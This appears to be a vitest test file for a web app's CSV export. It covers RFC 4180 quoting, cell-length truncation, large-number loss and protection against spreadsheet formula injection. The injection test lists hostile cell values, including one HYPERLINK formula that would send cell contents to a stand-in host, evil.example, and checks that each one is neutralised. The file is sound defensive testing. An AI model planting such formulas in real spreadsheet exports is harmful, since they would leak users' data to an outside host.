import fc from 'fast-check'
import { describe, expect, test } from 'vitest'

import { csvLoss, type CsvValue, csvRecord } from '#web/format/csv.ts'

test('a record has its fields in order, and ends as RFC 4180 has it', () => {
  expect(csvRecord(['a', 1, null, 9_007_199_254_740_993n, ''])).toBe(
    '"a",1,,9007199254740993,""\r\n',
  )
})

test('quotes are doubled; separators and line breaks stay inside', () => {
  expect(csvRecord(['say "no", then;\r\ngo'])).toBe('"say ""no"", then;\r\ngo"\r\n')
})

describe('what a spreadsheet would run is text', () => {
  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\0=1',
    '\tx',
    '  =1+1',
    '\n@a',
    '\u200b=1',
    '\u00a0=1',
    '＝1+1',
    '＋1',
    '－1',
    '＠a',
    `=HYPERLINK("https://evil.example/?"&A1)`,
  ])('%j', (text) => {
    expect(csvRecord([text]).slice(0, 2)).toBe(`"'`)
  })
})

test('what is no formula is not touched, nor is a number that is negative', () => {
  expect(csvRecord(["it's", 'a=b', '2026-11-20T10:00:00Z', -5])).toBe(
    `"it's","a=b","2026-11-20T10:00:00Z",-5\r\n`,
  )
})

describe('a text that is too long for a cell of a spreadsheet', () => {
  const most = 32_767
  const cell = (text: string) => readRecord(csvRecord([text]))[0] ?? ''

  test.each([
    ['plain', 'x'.repeat(most)],
    ['with quotes, which count once', '"'.repeat(most)],
  ])('is not cut if it just fits: %s', (_kind, text) => {
    expect(cell(text)).toBe(text)
    expect(csvLoss(text)).toBeUndefined()
  })

  test.each([
    ['plain', 'x'.repeat(most + 1)],
    ['with quotes and line breaks', 'a "b"\r\n'.repeat(6000)],
    ['one that is guarded', `=${'x'.repeat(most - 1)}`],
    ['pairs at even places', '😀'.repeat(20_000)],
    ['pairs at odd places', `x${'😀'.repeat(20_000)}`],
  ])('is cut, says so, and has no half character: %s', (_kind, text) => {
    const read = cell(text)
    expect(read.length).toBeLessThanOrEqual(most)
    expect(read.length).toBeGreaterThan(most - 3)
    expect(read).toMatch(/… \[cut here: \d{5} characters in all, which the JSON export has\]$/)
    expect(read).not.toMatch(/\p{Surrogate}/u)
    expect(csvLoss(text)).toBe('length')
  })
})

test.each([
  [999_999_999_999_999, undefined],
  [10 ** 15, 'digits'],
  [-(10 ** 15), 'digits'],
  [1_800_770_831_988_789_248n, 'digits'],
  ['1800770831988789248', 'digits'],
  ['812', undefined],
  ['order 1800770831988789248', undefined],
  [0.1 + 0.2, undefined],
  [null, undefined],
] as const)('a spreadsheet rounds whole numbers over 15 digits: %s, %s', (value, loss) => {
  expect(csvLoss(value)).toBe(loss)
})

test('whatever the texts, a reader gets them back, guarded at most', () => {
  const value = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom('"', '""', ',', '\r\n', '"\n,"'),
    fc.integer(),
  )
  fc.assert(
    fc.property(fc.array(value, { minLength: 1 }), (values: CsvValue[]) => {
      const read = readRecord(csvRecord(values))
      const plain = read.map((text, index) =>
        isGuarded(text, values[index]) ? text.slice(1) : text,
      )
      expect(plain).toEqual(values.map(String))
      const texts = read.filter((_text, index) => typeof values[index] === 'string')
      expect(texts.filter((text) => /^[=+\-@\t\r\0]/.test(text))).toEqual([])
    }),
  )
})

const isGuarded = (text: string, value: CsvValue | undefined) => text === `'${String(value)}`

/** Reads one record by the letter of RFC 4180. */
function readRecord(record: string): string[] {
  const fields = [...record.matchAll(/("(?:[^"]|"")*"|[^",\r]*)(?:,|\r\n)/gy)]
  expect(fields.map(([whole]) => whole).join('')).toBe(record)
  return fields.map(([, field = '']) =>
    field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field,
  )
}
